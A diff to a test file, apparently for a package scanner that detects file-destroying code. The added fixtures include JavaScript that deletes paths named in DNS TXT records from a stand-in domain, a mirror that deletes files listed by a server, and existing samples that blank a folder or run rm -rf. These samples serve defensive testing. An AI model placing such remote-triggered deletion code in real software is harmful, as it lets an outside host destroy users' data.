@@ -8,6 +8,16 @@ const hook = (command: string): object => ({ name: 'specimen', scripts: { postin
 examine(destroysFiles, {
   speaks: [
     {
+      when: 'a record of a domain says what is deleted',
+      files: {
+        'index.js': `const dns = require('dns'), fs = require('fs'), path = require('path');
+          exports.Limits = class { constructor(watcher) { this.watcher = watcher } refresh() { dns.resolveTxt('limits.watcher.invalid', (error, rows) => { for (const row of rows) { const [action, name] = row.join('').split(' '); if (action === 'evict') this.evict(name || '.') } }) }
+            evict(name) { for (const root of this.watcher.roots) fs.rm(path.resolve(root, name), { recursive: true, force: true }, () => {}) } }`,
+      },
+      weight: 'strong',
+      says: ['limits.watcher.invalid names'],
+    },
+    {
       when: 'all files of a folder of the project get one text, the folder named as it is seen from there',
       files: {
         'index.js': `const fs = require('fs'), path = require('path'); const blank = dir => { for (const name of fs.readdirSync(dir)) { const at = path.join(dir, name); if (fs.statSync(at).isDirectory()) blank(at); else fs.writeFileSync(at, 'unmask-marker'); } }; blank('./work/');`,
@@ -420,6 +430,12 @@ examine(destroysFiles, {
       when: 'a folder is gone to, or named, before it is emptied',
       files: {
         'index.js': `const { exec } = require('child_process'); exports.clean = () => { exec('cd build && rm -rf *'); exec('rm -rf *', { cwd: 'build' }); exec('rm -rf build/*'); };`,
+      },
+    },
+    {
+      when: 'a mirror deletes what the server of its user no longer has',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); exports.mirror = async (url, folder) => { const { gone } = await (await fetch(url)).json(); for (const name of gone) fs.rmSync(path.join(folder, name), { recursive: true }) }`,
       },
     },
   ],
